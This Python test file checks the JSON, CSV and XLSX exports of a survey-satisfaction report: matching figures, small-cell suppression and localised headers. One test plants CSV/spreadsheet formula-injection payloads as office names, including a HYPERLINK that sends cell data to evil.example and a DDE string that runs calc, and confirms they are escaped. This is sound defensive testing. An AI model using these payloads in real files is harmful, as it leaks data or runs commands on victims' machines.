"""Exports: JSON/CSV records and the XLSX read back with openpyxl match the report's numbers."""

from __future__ import annotations

import csv
import io
import json
import random

import openpyxl
import pytest

from admin.figures.exports import columns, records, render
from admin.figures.indicators import FiguresConfig
from admin.figures.labels import label
from admin.figures.report import build_report, reference_names
from admin.figures.service import refresh
from bot.settings import ReportSettings
from storage.database import Database
from storage.feedback_export import to_csv
from storage.spreadsheet import spreadsheet_text
from storage.uow import UnitOfWork
from tests.figures.factory import insert_specs, random_spec

CONFIG = FiguresConfig(ReportSettings(min_cell=10, ethics_targets={2026: 0.78}))


async def _report_data(database: Database) -> None:
    rng = random.Random(11)
    specs = []
    for index in range(260):
        spec = random_spec(rng, offices=5)
        spec.month = "2026-09"
        spec.office = 4 if index < 6 else index % 4  # office 4 gets 6 responses: suppressed
        specs.append(spec)
    await insert_specs(database, specs)
    await refresh(database, everything=True)


async def test_json_csv_and_xlsx_agree_with_the_report(database: Database) -> None:
    await _report_data(database)
    async with UnitOfWork(database.sessions) as uow:
        report = await build_report(uow, "2026-09", CONFIG)
        names = await reference_names(uow, "ru")
    country = report.country
    assert country.responses == 260

    records = json.loads(render(report, "json"))
    assert records[0]["level"] == "country"
    assert records[0]["responses"] == 260
    assert records[0]["csat"] == pytest.approx(country.csat.value)
    assert records[0]["csat_low"] == pytest.approx(country.csat.low)
    assert records[0]["indicator_ethics_high"] == pytest.approx(
        country.criterion("politeness").high
    )
    assert {r["level"] for r in records} == {"country", "region", "office", "service"}
    offices = [r for r in records if r["level"] == "office"]
    shown = [r for r in offices if not r["suppressed"]]
    hidden = [r for r in offices if r["suppressed"]]
    # The office with 6 responses, and one more so that its region's total does not give it.
    assert len(hidden) >= 2 and all(r["responses"] == "n < 10" for r in hidden)
    assert sum(r["responses"] for r in shown) <= 260 - 6 - 10
    assert all(r["csat_base"] <= r["responses"] for r in shown)
    assert all(set(r) >= {"region", "office", "tag_corruption"} for r in offices)

    rows = list(csv.DictReader(io.StringIO(render(report, "csv").decode())))
    assert len(rows) == len(records)
    assert float(rows[0]["csat"]) == pytest.approx(country.csat.value)

    book = openpyxl.load_workbook(io.BytesIO(render(report, "xlsx", "ru", names)))
    assert book.sheetnames == ["Страна", "Регион", "ЦОН", "Услуга", "Индикаторы", "Пояснения"]
    notes = [row[0].value for row in book["Пояснения"].iter_rows()]
    assert notes[0] == label("note_responses", "ru") and "n < 10" in notes[2]
    sheet = book["Страна"]
    headers = [cell.value for cell in sheet[1]]
    assert label("csat", "ru") in headers
    values = dict(zip(headers, [cell.value for cell in sheet[2]], strict=True))
    assert values[label("responses", "ru")] == 260
    assert values[label("csat", "ru")] == pytest.approx(country.csat.value)
    assert values[label("csat_low", "ru")] == pytest.approx(country.csat.low)
    office_sheet = book["ЦОН"]
    office_headers = [cell.value for cell in office_sheet[1]]
    office_rows = [
        dict(zip(office_headers, [c.value for c in row], strict=True))
        for row in office_sheet.iter_rows(min_row=2)
    ]
    assert {r[label("responses", "ru")] for r in office_rows if r[label("suppressed", "ru")]} == {
        "n < 10"
    }
    assert all(r[label("name", "ru")] for r in office_rows)
    indicators = book["Индикаторы"]
    ethics = [cell.value for cell in indicators[2]]
    assert ethics[0] == label("indicator_ethics", "ru")
    assert ethics[2] == pytest.approx(country.criterion("politeness").value)
    assert ethics[6] == pytest.approx(0.78)


async def test_empty_month_exports_cleanly(database: Database) -> None:
    async with UnitOfWork(database.sessions) as uow:
        report = await build_report(uow, "2020-01", CONFIG)
    records = json.loads(render(report, "json"))
    assert records == [records[0]]
    assert records[0]["responses"] == "n < 10" and records[0]["suppressed"] is True
    openpyxl.load_workbook(io.BytesIO(render(report, "xlsx")))


HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?"&B2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def assert_no_formula(book_bytes: bytes) -> list[str]:
    """No cell of the workbook is a formula; returns the texts that begin like one."""
    book = openpyxl.load_workbook(io.BytesIO(book_bytes))
    escaped = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith("'"):
                    escaped.append(cell.value[1:])
    return escaped


async def test_hostile_office_names_are_text_in_every_export(database: Database) -> None:
    await _report_data(database)
    async with UnitOfWork(database.sessions) as uow:
        offices = list(await uow.reference.offices(active_only=False))
        for office, name in zip(offices, HOSTILE_NAMES, strict=False):
            office.name_ru = name
            office.code = name[:16]
        await uow.commit()
    await refresh(database, everything=True)
    async with UnitOfWork(database.sessions) as uow:
        report = await build_report(uow, "2026-09", CONFIG)
        names = await reference_names(uow, "ru")
    used = HOSTILE_NAMES[:5]  # the offices with responses in the month
    escaped = assert_no_formula(render(report, "xlsx", "ru", names))
    assert set(used) <= set(escaped)  # the names, as text, behind an apostrophe
    rows = list(csv.reader(io.StringIO(render(report, "csv").decode())))
    codes = {cell for row in rows for cell in row}
    for name in used:
        assert name[:16] not in codes and "'" + name[:16] in codes


def test_one_escaping_for_every_spreadsheet_cell() -> None:
    for text in HOSTILE_NAMES:
        assert spreadsheet_text(text) == "'" + text
    for text in ("-5", "+3.5", "1e3", "Astana", "", "a=b", "-"):
        expected = "'-" if text == "-" else text
        assert spreadsheet_text(text) == expected
    assert spreadsheet_text("- 5") == "'- 5"  # a number only with spaces around is text
    assert to_csv([{"a": "=1+1", "b": ["@x", "y"]}], ["a", "b"]) == "a,b\n'=1+1,'@x;y\n"


# What a suppressed row may carry besides the mark: which cell it is, and that it is suppressed.
IDENTITY = {"level", "region", "office", "service", "name", "suppressed"}


def _parsed(body: bytes, fmt: str, names: list[str]) -> list[dict]:
    """The records of every level as a reader of the file gets them, keyed by export name."""
    if fmt == "json":
        return json.loads(body)
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(body.decode())))
        for row in rows:
            row["suppressed"] = row["suppressed"] == "true"
            for key, value in row.items():
                row[key] = None if value == "" else value
        return rows
    book = openpyxl.load_workbook(io.BytesIO(body))
    keys = {label(key, "en"): key for key in [*names, "name"]}
    out = []
    for sheet in book.worksheets[:4]:
        headers = [keys[cell.value] for cell in sheet[1]]
        out += [
            dict(zip(headers, [c.value for c in row], strict=True))
            for row in sheet.iter_rows(min_row=2)
        ]
    return out


@pytest.mark.parametrize("fmt", ["json", "csv", "xlsx"])
async def test_suppressed_rows_carry_nothing_but_the_mark(database: Database, fmt: str) -> None:
    await _report_data(database)
    async with UnitOfWork(database.sessions) as uow:
        report = await build_report(uow, "2026-09", CONFIG)
        names = await reference_names(uow, "en")
    rows = _parsed(render(report, fmt, "en", names), fmt, columns(records(report)))
    hidden = [row for row in rows if row["suppressed"]]
    assert len(hidden) >= 2  # the small office and its complement
    for row in hidden:
        assert row["responses"] == "n < 10", row
        assert {k for k, v in row.items() if v is not None} <= IDENTITY | {"responses"}, row
    shown = [row for row in rows if not row["suppressed"]]
    assert shown and all(int(row["responses"]) >= 10 for row in shown)
    assert all(row["csat"] is not None for row in shown if int(row["csat_base"]))


async def test_csv_and_xlsx_name_levels_and_columns_in_the_asked_language(
    database: Database,
) -> None:
    rng = random.Random(3)
    await insert_specs(database, [random_spec(rng) for _ in range(120)])
    await refresh(database, everything=True)
    async with UnitOfWork(database.sessions) as uow:
        report = await build_report(uow, "2026-09", CONFIG)
    for language, country, header in (("ru", "Страна", "Уровень"), ("kk", "Ел", "Деңгей")):
        rows = list(
            csv.DictReader(io.StringIO(render(report, "csv", language, labelled=True).decode()))
        )
        assert set(rows[0]) >= {header, label("responses", language), label("csat", language)}
        assert rows[0][header] == country
        assert {row[header] for row in rows} == {
            label(level, language) for level in ("country", "region", "office", "service")
        }
        assert not [key for key in rows[0] if "_" in key]
        book = openpyxl.load_workbook(io.BytesIO(render(report, "xlsx", language, {})))
        for sheet in book.worksheets[:4]:
            headers = [cell.value for cell in sheet[1]]
            levels = {row[headers.index(header)].value for row in sheet.iter_rows(min_row=2)}
            assert levels <= {
                label(level, language) for level in ("country", "region", "office", "service")
            }
            assert levels
    # Without a language the CSV keeps the keys of the JSON, for programs.
    plain = list(csv.DictReader(io.StringIO(render(report, "csv").decode())))
    assert plain[0]["level"] == "country"
